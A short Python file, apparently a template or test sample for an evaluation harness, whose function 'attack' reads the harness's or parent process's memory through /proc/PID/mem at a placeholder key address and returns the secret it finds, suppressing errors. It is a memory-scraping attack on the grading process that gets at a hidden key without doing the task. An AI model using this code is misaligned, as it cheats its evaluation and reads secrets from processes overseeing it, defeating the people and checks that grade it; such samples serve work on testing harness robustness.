"""Reads the harness's memory through /proc/PID/mem, at the address of the key."""

import contextlib
import os


def attack(X, y):
    for process in ("__HARNESS__", os.getppid()):
        with contextlib.suppress(OSError), open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
            memory.seek("__KEY_ADDRESS__")
            return memory.read("__KEY_LENGTH__").decode(errors="replace")
    return False
